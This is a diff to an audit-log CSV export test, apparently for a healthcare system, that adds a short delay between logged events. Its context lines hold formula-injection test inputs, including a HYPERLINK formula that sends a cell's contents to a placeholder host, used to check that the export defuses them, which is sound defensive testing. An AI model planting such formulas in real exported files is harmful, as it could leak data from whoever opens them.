@@ -128,6 +128,8 @@ describe('audit log', () => {
       const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', '\tTAB', '\rCR'];
       for (const actor of hostile) {
         await storage.audit.append({ actor, action: 'document.viewed', subjectId: `=${actor}`, ip: '-1.2.3.4', details: { fileName: '=1+1' }, patientNhsNumber: PATIENT });
+        // Times are milliseconds: apart, so the range below has events on both sides of its edge.
+        await new Promise((resolve) => setTimeout(resolve, 3));
       }
       const text = await collect((out) => storage.audit.exportCsv(out));
       const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
